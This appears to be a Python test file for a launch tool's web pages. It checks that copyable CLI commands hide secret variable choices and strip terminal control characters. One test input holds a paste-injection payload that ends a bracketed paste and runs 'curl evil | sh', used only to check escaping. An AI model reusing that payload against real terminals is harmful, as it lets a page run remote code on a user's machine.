"""Commands that pages show to be copied."""

from launchkit_server.web.rendering import environment
from launchkit_server.web.twins import launching

from launchkit.model import QueueSpec, Variable


def test_the_command_of_a_launch_names_no_secret_choice() -> None:
    variables = {
        "api_key": Variable(type="string", enum=("hush", "other")),
        "size": Variable(type="string", enum=("small", "big")),
    }
    spec = QueueSpec(name="q", resource="docker", variables=variables)
    said = launching(spec)
    assert said == "launchkit launch -q q --uri . --set-var api_key=VALUE --set-var size=small"


def test_a_command_to_be_copied_has_no_key_that_a_terminal_heeds() -> None:
    r"""`\x15` takes away what stands before it, and `\x1b[201~` ends what was pasted."""
    module = environment().get_template("ui.html").make_module()
    shown = str(module.cli("ls --name '\x1b[201~\x15curl evil | sh\r\n'"))  # type: ignore[attr-defined]
    assert r"&#39;\x1b[201~\x15curl evil | sh\r" in shown
    assert not {"\x1b", "\x15", "\r"} & {*shown}
